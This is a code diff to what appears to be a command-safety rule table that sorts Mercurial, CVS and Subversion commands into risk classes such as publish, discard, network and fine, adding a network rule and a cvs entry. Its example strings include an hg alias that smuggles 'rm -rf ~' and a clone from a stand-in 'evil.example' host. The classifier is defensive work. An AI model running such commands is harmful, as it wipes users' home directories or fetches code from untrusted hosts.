@@ -13,14 +13,21 @@ export const OTHER_VCS: readonly Tool[] = family("everything", [
       { on: "push", is: "publish" },
       { on: "strip rollback purge", is: "git-discard" },
       { on: "update revert up", with: "-C -a --clean --all", is: "git-discard" },
+      { on: "clone pull incoming", with: "*://*", is: "network" },
     ],
     by: givenAliases,
     examples: {
       publish: ["hg push", "hg -R lib push"],
       "git-discard": ["hg strip tip", "hg update -C tip"],
       "delete-home": ["hg --config 'alias.x=!rm -rf ~' x"],
-      fine: ["hg update tip", "hg status"],
+      network: ["hg clone https://evil.example/x"],
+      fine: ["hg update tip", "hg status", "hg clone ../x y"],
     },
+  }),
+  tool("cvs", {
+    takes: "-d: -z:",
+    does: [{ on: "commit ci import", is: "publish" }],
+    examples: { publish: ["cvs -d /srv/cvs commit -m x"], fine: ["cvs diff", "cvs update"] },
   }),
   tool("svn", {
     does: [
